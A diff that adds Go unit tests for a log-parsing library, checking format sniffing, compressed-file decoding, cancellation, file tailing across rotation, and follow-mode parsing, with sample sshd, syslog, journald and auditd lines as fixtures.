+		t.Errorf("Unexpected entry: message %q, pid %q, N %q", entry.Message, entry.PID, entry.Fields["N"])
+	}
+	if entry.Timestamp != "2023-11-14T22:13:20.000" {
+		t.Errorf("Timestamp = %q", entry.Timestamp)
+	}
+}
+
+func TestSniff(t *testing.T) {
+	syslogLine := "Jan  1 10:30:00 web01 sshd[1]: Accepted password for root\n"
+	tests := []struct {
+		name   string
+		head   string
+		scores map[string]float64
+	}{
+		{"bsd syslog", strings.Repeat(syslogLine, 4), map[string]float64{"syslog": 1, "journald": 0, "auditd": 0}},
+		{"rfc 5424", "<34>1 2024-01-01T10:30:00Z web01 su - ID47 - su root failed\n", map[string]float64{"syslog": 1, "journald": 0, "auditd": 0}},
+		{"short-iso", "2024-01-01T10:30:00+00:00 web01 sshd[1]: Accepted password\nnot a log line\n", map[string]float64{"syslog": 0, "journald": 0.5, "auditd": 0}},
+		{"ausearch", "----\ntype=SYSCALL msg=audit(1704105000.123:456): arch=c000003e syscall=59\n", map[string]float64{"syslog": 0, "journald": 0, "auditd": 1}},
+		{"journal export", "__CURSOR=s=1\n__REALTIME_TIMESTAMP=1700000000000000\n", map[string]float64{"syslog": 0, "journald": 1, "auditd": 0}},
+		{"empty", "\n\n", nil},
+		{"cut off", strings.Repeat("x", SniffSize), nil},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			scores := Sniff([]byte(tt.head))
+			if tt.scores == nil {
+				if scores != nil {
+					t.Errorf("Sniff() = %v, expected nil", scores)
+				}
+				return
+			}
+			for target, score := range tt.scores {
+				if scores[target] != score {
+					t.Errorf("Sniff() %s = %v, expected %v", target, scores[target], score)
+				}
+			}
+		})
+	}
+}
+
+func TestParser_Decompress(t *testing.T) {
+	var content strings.Builder
+	for i := 0; i < 5; i++ {
+		fmt.Fprintf(&content, "Mar  1 10:00:0%d web01 sshd[%d]: Failed password for root from 10.0.0.%d port 22 ssh2\n", i, 100+i, i)
+	}
+	plain := []byte(content.String())
+
+	// Standard library has no bzip2 writer, so that one is a fixture
+	bzipped, err := os.ReadFile(filepath.Join("testdata", "compressed", "auth.log.bz2"))
+	if err != nil {
+		t.Fatalf("Failed to read fixture: %v", err)
+	}
+
+	var gzipped bytes.Buffer
+	gzipWriter := gzip.NewWriter(&gzipped)
+	gzipWriter.Write(plain)
+	gzipWriter.Close()
+
+	var xzed bytes.Buffer
+	xzWriter, err := xz.NewWriter(&xzed)
+	if err != nil {
+		t.Fatalf("Failed to create xz writer: %v", err)
+	}
+	xzWriter.Write(plain)
+	xzWriter.Close()
+
+	zstdEncoder, err := zstd.NewWriter(nil)
+	if err != nil {
+		t.Fatalf("Failed to create zstd writer: %v", err)
+	}
+	zstded := zstdEncoder.EncodeAll(plain, nil)
+
+	// Compression is detected by content, not by name
+	tmpDir := t.TempDir()
+	for name, data := range map[string][]byte{
+		"plain": plain, "gzip": gzipped.Bytes(), "bzip2": bzipped, "xz": xzed.Bytes(), "zstd": zstded,
+	} {
+		if format := CompressionFormat(data); name != "plain" && format != name {
+			t.Errorf("CompressionFormat(%s) = %q", name, format)
+		}
+
+		path := filepath.Join(tmpDir, name)
+		if err := os.WriteFile(path, data, 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+		if err := os.Chtimes(path, time.Now(), time.Date(2025, 3, 2, 0, 0, 0, 0, time.UTC)); err != nil {
+			t.Fatalf("Failed to set mtime: %v", err)
+		}
+
+		logParser := NewSyslogParser(path)
+		logParser.SetOptions(Options{Location: time.UTC})
+		entries, err := logParser.Parse()
+		if err != nil {
+			t.Errorf("Parse(%s) error = %v", name, err)
+			continue
+		}
+		if len(entries) != 5 {
+			t.Errorf("Expected 5 entries from %s, got %d", name, len(entries))
+			continue
+		}
+		if entries[4].Message != "Failed password for root from 10.0.0.4 port 22 ssh2" || entries[4].Timestamp != "2025-03-01T10:00:04.000" {
+			t.Errorf("Unexpected entry from %s: %+v", name, entries[4])
+		}
+	}
+
+	// Truncated data is an error
+	path := filepath.Join(tmpDir, "truncated")
+	if err := os.WriteFile(path, gzipped.Bytes()[:gzipped.Len()/2], 0644); err != nil {
+		t.Fatalf("Failed to write file: %v", err)
+	}
+	if _, err := NewAuditdParser(path).Parse(); err == nil {
+		t.Error("Expected an error for truncated gzip data")
+	}
+
+	if got := TrimCompressionExt("auth.log.2.gz"); got != "auth.log.2" {
+		t.Errorf("TrimCompressionExt() = %q", got)
+	}
+}
+
+func TestParser_StreamCancel(t *testing.T) {
+	tmpDir := t.TempDir()
+	testFile := filepath.Join(tmpDir, "audit.log")
+
+	var content strings.Builder
+	for i := 0; i < 10000; i++ {
+		fmt.Fprintf(&content, "type=SYSCALL msg=audit(1640999999.123:%d): syscall=open pid=%d\n", i, i)
+	}
+	if err := os.WriteFile(testFile, []byte(content.String()), 0644); err != nil {
+		t.Fatalf("Failed to create test file: %v", err)
+	}
+
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	entries, errc := StreamEntries(ctx, NewAuditdParser(testFile))
+
+	// Stop reading after a few entries; the parser must not block forever
+	received := 0
+	for range entries {
+		received++
+		if received == 5 {
+			cancel()
+			break
+		}
+	}
+
+	select {
+	case err := <-errc:
+		if !errors.Is(err, context.Canceled) {
+			t.Errorf("Expected context.Canceled, got %v", err)
+		}
+	case <-time.After(5 * time.Second):
+		t.Fatal("Stream did not stop after cancellation")
+	}
+}
+
+func TestTail(t *testing.T) {
+	tmpDir := t.TempDir()
+	path := filepath.Join(tmpDir, "auth.log")
+	if err := os.WriteFile(path, []byte("before following\n"), 0644); err != nil {
+		t.Fatalf("Failed to create test file: %v", err)
+	}
+
+	tail, err := OpenTail(path)
+	if err != nil {
+		t.Fatalf("OpenTail() error = %v", err)
+	}
+	defer tail.Close()
+	tail.SetPollInterval(5 * time.Millisecond)
+
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	lines := make(chan string)
+	errc := make(chan error, 1)
+	go func() {
+		defer close(lines)
+		errc <- tail.Lines(ctx, lines)
+	}()
+
+	appendLog := func(path, content string) {
+		t.Helper()
+		file, err := os.OpenFile(path, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0644)
+		if err != nil {
+			t.Fatalf("Failed to open test file: %v", err)
+		}
+		defer file.Close()
+		if _, err := file.WriteString(content); err != nil {
+			t.Fatalf("Failed to write test file: %v", err)
+		}
+	}
+	expect := func(want ...string) {
+		t.Helper()
+		for _, line := range want {
+			select {
+			case got := <-lines:
+				if got != line {
+					t.Fatalf("Got line %q, expected %q", got, line)
+				}
+			case <-time.After(5 * time.Second):
+				t.Fatalf("Timed out waiting for %q", line)
+			}
+		}
+	}
+
+	// Lines are sent once complete
+	appendLog(path, "first\nsec")
+	expect("first")
+	appendLog(path, "ond\r\n")
+	expect("second")
+
+	// Renamed away: the old file is finished, then the new one read
+	rotated := filepath.Join(tmpDir, "auth.log.1")
+	if err := os.Rename(path, rotated); err != nil {
+		t.Fatalf("Failed to rotate test file: %v", err)
+	}
+	appendLog(rotated, "written after rotation\nunfinished")
+	time.Sleep(20 * time.Millisecond)
+	appendLog(path, "new file\n")
+	expect("written after rotation", "unfinished", "new file")
+
+	// Truncated in place, as with copytruncate, and rewritten with less
+	// than was read
+	long := strings.Repeat("x", 100)
+	appendLog(path, long+"\n")
+	expect(long)
+	if err := os.Truncate(path, 0); err != nil {
+		t.Fatalf("Failed to truncate test file: %v", err)
+	}
+	time.Sleep(20 * time.Millisecond)
+	appendLog(path, "after truncation\n")
+	expect("after truncation")
+
+	cancel()
+	select {
+	case err := <-errc:
+		if err != nil {
+			t.Errorf("Lines() error = %v, expected nil on cancellation", err)
+		}
+	case <-time.After(5 * time.Second):
+		t.Fatal("Lines did not stop after cancellation")
+	}
+}
+
+func TestParser_Follow(t *testing.T) {
+	tests := []struct {
+		name     string
+		target   string
+		lines    []string
+		messages []string
+	}{
+		{
+			name:   "syslog continuation",
+			target: "syslog",
+			lines: []string{
+				"Jan  1 10:30:15 server1 app[1]: first",
+				"  continued",
+			},
+			messages: []string{"first   continued"},
+		},
+		{
+			name:   "auditd event",
+			target: "auditd",
+			lines: []string{
+				"type=SYSCALL msg=audit(1640999999.123:42): syscall=59 exe=\"/usr/bin/id\"",
+				"type=EXECVE msg=audit(1640999999.123:42): argc=1 a0=\"id\"",
+			},
+			messages: []string{"id"},
+		},
+		{
+			name:     "journald text",
+			target:   "journald",
+			lines:    []string{"2024-01-01T10:30:15+00:00 server1 sshd[1]: Accepted password"},
+			messages: []string{"Accepted password"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p, err := NewParser(tt.target, "")
+			if err != nil {
+				t.Fatalf("NewParser() error = %v", err)
+			}
+			follower, ok := p.(Follower)
+			if !ok {
+				t.Fatalf("%s parser doesn't implement Follower", tt.target)
+			}
+
+			// The lines stay open: entries must come out once the log is quiet
+			lines := make(chan string, len(tt.lines))
+			for _, line := range tt.lines {
+				lines <- line
+			}
+			out := make(chan LogEntry, 10)
+			errc := make(chan error, 1)
+			go func() { errc <- follower.Follow(context.Background(), lines, out) }()
+
+			for _, message := range tt.messages {
+				select {
+				case entry := <-out:
+					if tt.target == "auditd" {
+						if entry.Fields["cmdline"] != message {
+							t.Errorf("Expected cmdline %q, got %q", message, entry.Fields["cmdline"])
+						}
+					} else if entry.Message != message {
+						t.Errorf("Expected message %q, got %q", message, entry.Message)
+					}
+				case <-time.After(5 * FollowFlushDelay):
+					t.Fatalf("Timed out waiting for %q", message)
+				}
+			}
+
+			close(lines)
+			if err := <-errc; err != nil {
+				t.Errorf("Follow() error = %v", err)
+			}
+		})
+	}
+}
+
 // Helper function
 func contains(s, substr string) bool {
 	return strings.Contains(s, substr)